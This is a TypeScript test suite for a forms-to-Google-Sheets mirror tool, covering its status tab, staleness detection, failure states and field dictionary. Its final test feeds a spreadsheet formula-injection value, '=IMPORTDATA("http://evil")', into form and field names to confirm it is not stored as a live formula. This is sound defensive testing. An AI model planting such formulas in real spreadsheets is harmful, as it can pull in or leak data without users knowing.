import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { FormWriter, Target } from '../../../../src/mirror/target.ts';
import type { FormIdentity, PassRecord } from '../../../../src/mirror/types.ts';
import { AT_ONCE, CHECKPOINT, FORM, NAME, pass, row } from '../../../contract/target-harness.ts';
import { SleepersClock, type SheetsPlace, sheetsPlace } from '../sheets-place.ts';

const MINUTE_MS = 60_000;

describe('the Mirror tab', () => {
  let place: SheetsPlace;
  let clock: SleepersClock;
  let target: Target;

  beforeEach(async () => {
    clock = new SleepersClock('2026-03-02T08:00:00.000Z');
    place = await sheetsPlace({ clock, spreadsheet: { timeZone: 'Europe/Prague' } });
    target = await place.open();
  });
  afterEach(() => place.dispose());

  const shown = (): string[][] => place.sandbox.inspect.shown(place.spreadsheetId, 'Mirror');
  const health = (): string | undefined => shown()[0]?.[1];
  const table = (from: number, width: number): string[][] =>
    shown()
      .slice(5)
      .map((cells) => Array.from({ length: width }, (_, index) => cells[from + index] ?? ''))
      .filter((cells) => cells.some((cell) => cell !== ''));
  const forms = (): string[][] => table(0, 9);
  const problems = (): string[][] => table(10, 6);
  const fields = (): string[][] => table(17, 6);
  const ended = (rest: Partial<PassRecord> = {}): PassRecord =>
    pass({ endedAt: new Date(clock.now()).toISOString(), ...rest });
  async function write(
    work: (writer: FormWriter) => Promise<unknown>,
    form: FormIdentity = FORM,
  ): Promise<void> {
    await using writer = await target.openWriter(form, AT_ONCE);
    await work(writer);
  }

  it('shows each form’s rows, last success, last error and problems', async () => {
    await write(async (writer) => {
      await writer.prepare([NAME]);
      await writer.apply(
        [row('a'), row('b'), row('c')],
        [{ submissionId: 'x', reason: 'has no ID', stored: false }],
      );
      await writer.markDeleted(['b'], '2026-03-02T08:00:00.000Z');
      await writer.finish(ended(), { checkpoint: CHECKPOINT });
    });
    clock.advance(5 * MINUTE_MS);
    await write(
      (writer) =>
        writer.finish(ended({ outcome: 'failed', error: 'The Forms API did not answer.' }), {}),
      { id: 'frm_2', slug: 'zzz', name: 'Zzz' },
    );
    expect(forms()).toEqual([
      [
        'Form',
        'State',
        'Rows',
        'Removed',
        'Last success',
        'Last pass',
        'Details',
        'Problems',
        'Copied rows',
      ],
      [
        'Contact form',
        'All submissions at last success',
        '2',
        '1',
        '2026-03-02 09:00',
        '2026-03-02 09:00',
        'Answers were never compared.',
        '1',
        '0',
      ],
      [
        'Zzz',
        'The last pass failed',
        '0',
        '0',
        '',
        '2026-03-02 09:05',
        'The Forms API did not answer. Run forms-mirror check: it tries the source and every target and says what is wrong.',
        '0',
        '0',
      ],
    ]);
    expect(problems()).toEqual([
      ['Form', 'Submission ID', 'What happened', 'Kept', 'First seen', 'Last seen'],
      ['Contact form', 'x', 'has no ID', 'no', '2026-03-02 09:00', '2026-03-02 09:00'],
    ]);
    expect(shown()[2]?.[1]).toMatch(/of Google's 10 million cells are in use/);
  });

  it('says by itself that the copy is stale when nothing is written any more', async () => {
    await write(async (writer) => {
      await writer.prepare([NAME]);
      await writer.finish(ended(), { checkpoint: CHECKPOINT });
    });
    const revision = place.sandbox.inspect.revision(place.spreadsheetId);
    expect(health()).toBe('All submissions at last success');
    clock.advance(44 * MINUTE_MS);
    expect(health()).toBe('All submissions at last success');
    clock.advance(2 * MINUTE_MS);
    expect([health(), forms()[1]?.[1]]).toEqual(['Stale', 'Stale']);
    // Nothing was written: the formula compares with NOW().
    expect(place.sandbox.inspect.revision(place.spreadsheetId)).toBe(revision);
  });

  it('L17: dates a long pass by its beginning, and is not stale when it has just ended', async () => {
    const startedAt = new Date(clock.now()).toISOString();
    clock.advance(50 * MINUTE_MS);
    await write(async (writer) => {
      await writer.prepare([NAME]);
      const checkpoint = { ...CHECKPOINT, provenAt: startedAt };
      await writer.finish(ended({ startedAt }), { checkpoint });
    });
    expect(health()).toBe('All submissions at last success');
    expect(forms()[1]?.slice(4, 6)).toEqual(['2026-03-02 09:00', '2026-03-02 09:50']);
    clock.advance(46 * MINUTE_MS);
    expect(health()).toBe('Stale');
  });

  it('L17: is not stale while looks find that nothing changed, each seldom written', async () => {
    const checkpoint = { ...CHECKPOINT, hidden: 0, provenAt: ended().endedAt };
    await write(async (writer) => {
      await writer.prepare([NAME]);
      await writer.finish(ended(), { checkpoint });
    });
    const begun = place.sandbox.inspect.revision(place.spreadsheetId);
    const lookNow = (open: readonly string[] = []): Promise<void> => {
      const at = new Date(clock.now()).toISOString();
      // The newest page moves on with every newcomer.
      const newest = { digests: new Set<string>(), oldest: at };
      const others = { total: 1, statuses: new Map([['NEW', 1]]), besides: 'a1b2', newest };
      return target.recordLook({ at, open, others });
    };
    for (let minute = 0; minute < 60; minute++) {
      clock.advance(MINUTE_MS);
      await lookNow();
    }
    expect(health()).toBe('All submissions at last success');
    expect(forms()[1]?.[4]).toMatch(/^2026-03-02 \d\d:5\d$/);
    // Once in ten minutes.
    expect(place.sandbox.inspect.revision(place.spreadsheetId) - begun).toBeLessThanOrEqual(7);
    // What a look found to differ is not known to be current: nothing but a pass says so.
    for (let minute = 0; minute < 50; minute++) {
      clock.advance(MINUTE_MS);
      await lookNow([FORM.id]);
    }
    expect(health()).toBe('Stale');
  });

  it('leaves the limit of staleness to people', async () => {
    await write((writer) => writer.finish(ended(), { checkpoint: CHECKPOINT }));
    place.sandbox.people.at(place.spreadsheetId, 'Mirror').type(1, 1, '5');
    clock.advance(6 * MINUTE_MS);
    expect(health()).toBe('Stale');
    await write((writer) => writer.finish(ended({ inserted: 1 }), { checkpoint: CHECKPOINT }));
    expect(health()).toBe('All submissions at last success');
    expect(shown()[1]?.[1]).toBe('5');
  });

  it('says when passes fail, and when a form is gone', async () => {
    await write((writer) => writer.finish(ended(), { checkpoint: CHECKPOINT }));
    await write((writer) => writer.finish(ended({ outcome: 'failed', error: 'Boom' }), {}));
    expect([health(), forms()[1]?.[1]]).toEqual(['The last pass failed', 'The last pass failed']);
    const goneAt = '2026-03-02T08:00:00.000Z';
    await write((writer) => writer.finish(ended({ outcome: 'gone' }), { goneAt }));
    expect([health(), forms()[1]?.[1]]).toEqual(['Gone at the source', 'Gone at the source']);
    // A form that is gone does not turn stale.
    clock.advance(600 * MINUTE_MS);
    expect(health()).toBe('Gone at the source');
  });

  it('a quiet mirror writes a sign of life every ten minutes, so that it does not turn stale', async () => {
    await write(async (writer) => {
      await writer.prepare([NAME]);
      await writer.finish(ended(), { checkpoint: CHECKPOINT });
    });
    place.sandbox.requests.clear();
    for (let minute = 0; minute < 120; minute++) {
      clock.advance(MINUTE_MS);
      await write(async (writer) => {
        await writer.prepare([NAME]);
        await writer.finish(ended({ inserted: 0 }), { checkpoint: CHECKPOINT });
      });
      expect(health()).toBe('All submissions at last success');
    }
    expect(place.sandbox.requests.counts()).toEqual({ reads: 120, writes: 12 });
    // What was not written is known in this process all the same, and no older than ten minutes elsewhere.
    const last = new Date(clock.now()).toISOString();
    expect((await target.overview())[0]?.lastPass?.endedAt).toBe(last);
  });

  it('is a dictionary of fields, with their former labels', async () => {
    await write((writer) => writer.prepare([NAME]));
    clock.advance(24 * 60 * MINUTE_MS);
    await write((writer) => writer.prepare([{ ...NAME, label: 'Your name' }]));
    await write((writer) => writer.prepare([]));
    expect(fields()).toEqual([
      ['Form', 'Field ID', 'Label', 'Former labels', 'Left the form', 'Column deleted'],
      [
        'Contact form',
        'field_1_a',
        'Your name',
        'Full name (until 2026-03-03)',
        '2026-03-03 09:00',
        '',
      ],
    ]);
  });

  it('comes back when people delete it, and the tables of its rows shrink as they grow', async () => {
    const bad = (count: number) =>
      Array.from({ length: count }, (_, index) => ({
        submissionId: `x${index}`,
        reason: 'odd',
        stored: false,
      }));
    await write(async (writer) => {
      await writer.apply([], bad(60));
      await writer.finish(ended(), { checkpoint: CHECKPOINT });
    });
    expect(problems()).toHaveLength(61);
    await write(async (writer) => {
      await writer.apply([], bad(2));
      await writer.finish(ended({ kind: 'full' }), { checkpoint: CHECKPOINT });
    });
    expect(problems()).toHaveLength(3);
    place.sandbox.people.at(place.spreadsheetId, 'Mirror').deleteTab();
    place.sandbox.people.at(place.spreadsheetId, 'Mirror state').deleteTab();
    await write(async (writer) => {
      await writer.prepare([NAME]);
      await writer.finish(ended({ inserted: 1 }), { checkpoint: CHECKPOINT });
    });
    expect(health()).toBe('All submissions at last success');
    expect(fields()).toHaveLength(2);
  });

  it('holds formulas of ours only, whatever forms and fields are called', async () => {
    const name = '=IMPORTDATA("http://evil")';
    await write(
      async (writer) => {
        await writer.prepare([{ ...NAME, label: name }]);
        await writer.apply([row('=1+1')], [{ submissionId: '=2', reason: '=3', stored: false }]);
        await writer.finish(ended({ outcome: 'failed', error: '=4' }), {});
      },
      { ...FORM, name },
    );
    const formulas = place.sandbox.inspect
      .tabs(place.spreadsheetId)
      .flatMap((tab) => place.sandbox.inspect.formulas(place.spreadsheetId, tab.sheetId))
      .map((one) => one.text);
    expect(formulas.map((text) => text.slice(0, 12))).toEqual(['=IF(COUNTIF(', '=IF($E7="";"']);
  });
});
